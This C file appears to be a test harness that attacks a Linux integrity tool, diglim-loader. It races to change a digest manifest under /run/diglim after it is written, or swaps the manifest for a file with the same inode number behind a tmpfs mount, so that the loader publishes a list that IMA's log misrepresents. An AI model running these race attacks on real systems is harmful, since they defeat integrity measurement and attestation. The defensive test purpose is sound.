// SPDX-License-Identifier: Apache-2.0
/* Goal: have diglim-loader publish a list of which IMA's log says nothing, or not the truth.
 * Expected: "tried" on stdout when the attack came to its point, then "status N", the loader's own: not 0.
 *
 *   manifest_attack open N LOADER ARGUMENT...   opens /run/diglim/manifest.N for write as soon as it is there, changes it when it is written
 *   manifest_attack swap N LOADER ARGUMENT...   puts another file with the same inode number in its place before it is measured
 *
 * It runs with real-time priority on the loader's processor, so the loader goes no further when there is something to do.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define FOLDER "/run/diglim"

static char name[64];
static char path[128];

static pid_t start(char **arguments)
{
  pid_t pid = fork();

  if (pid == 0) {
    struct sched_param none = {0};
    sched_setscheduler(0, SCHED_OTHER, &none);
    execv(arguments[0], arguments);
    _exit(126);
  }
  return pid;
}

static int finish(pid_t pid)
{
  int status = 0;

  waitpid(pid, &status, 0);
  printf("status %d\n", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
  return 0;
}

static void take_processor(void)
{
  struct sched_param first = {.sched_priority = 50};
  cpu_set_t one;

  CPU_ZERO(&one);
  CPU_SET(0, &one);
  sched_setaffinity(0, sizeof(one), &one);
  if (sched_setscheduler(0, SCHED_FIFO, &first) != 0)
    perror("SCHED_FIFO");
}

/* Waits until the event comes for the manifest, or the loader ends. */
static void wait_for(int notify, unsigned int wanted, pid_t loader)
{
  char buffer[4096] __attribute__((aligned(8)));
  struct pollfd events = {.fd = notify, .events = POLLIN};
  siginfo_t ended = {0};

  while (waitid(P_PID, (id_t)loader, &ended, WEXITED | WNOHANG | WNOWAIT) == 0 && ended.si_pid == 0) {
    ssize_t size = poll(&events, 1, 100) > 0 ? read(notify, buffer, sizeof(buffer)) : 0;
    for (ssize_t at = 0; at < size;) {
      struct inotify_event *event = (void *)(buffer + at);
      if ((event->mask & wanted) && event->len && strcmp(event->name, name) == 0)
        return;
      at += (ssize_t)(sizeof(*event) + event->len);
    }
  }
}

static void change(int fd)
{
  char text[4096];
  ssize_t size = pread(fd, text, sizeof(text) - 1, 0);
  char *list;

  if (size <= 0)
    return;
  text[size] = 0;
  list = strstr(text, "\nlist ");
  if (list && pwrite(fd, "0000", 4, list - text + 6) == 4)
    printf("changed\n");
}

static int attack_open(char **arguments)
{
  int notify = inotify_init1(IN_CLOEXEC);
  pid_t pid;
  int fd;

  take_processor();
  inotify_add_watch(notify, FOLDER, IN_CREATE | IN_CLOSE_WRITE);
  pid = start(arguments);
  wait_for(notify, IN_CREATE, pid);
  fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd >= 0) {
    printf("tried\n");
    wait_for(notify, IN_CLOSE_WRITE, pid);
    change(fd);
    close(fd);
  } else {
    perror("open");
  }
  return finish(pid);
}

static int attack_swap(char **arguments)
{
  int notify = inotify_init1(IN_CLOEXEC);
  struct stat wanted, got = {0};
  pid_t pid;

  take_processor();
  inotify_add_watch(notify, FOLDER, IN_CLOSE_WRITE);
  pid = start(arguments);
  wait_for(notify, IN_CLOSE_WRITE, pid);
  kill(pid, SIGSTOP);
  if (stat(path, &wanted) != 0 || mount("tmpfs", FOLDER, "tmpfs", 0, NULL) != 0)
    perror(path);
  for (int i = 0; i < 1000000 && got.st_ino != wanted.st_ino; i++) {
    int fd;
    unlink(path);
    fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0444);
    if (fd < 0 || fstat(fd, &got) != 0 || got.st_ino > wanted.st_ino)
      break;
    close(fd);
  }
  if (got.st_ino == wanted.st_ino)
    printf("tried\n");
  kill(pid, SIGCONT);
  finish(pid);
  return umount2(FOLDER, MNT_DETACH);
}

int main(int argc, char **argv)
{
  if (argc < 4)
    return 2;
  setvbuf(stdout, NULL, _IOLBF, 0);
  alarm(900); /* rather than wait for what does not come */
  snprintf(name, sizeof(name), "manifest.%s", argv[2]);
  snprintf(path, sizeof(path), FOLDER "/%s", name);
  if (strcmp(argv[1], "open") == 0)
    return attack_open(argv + 3);
  return attack_swap(argv + 3);
}
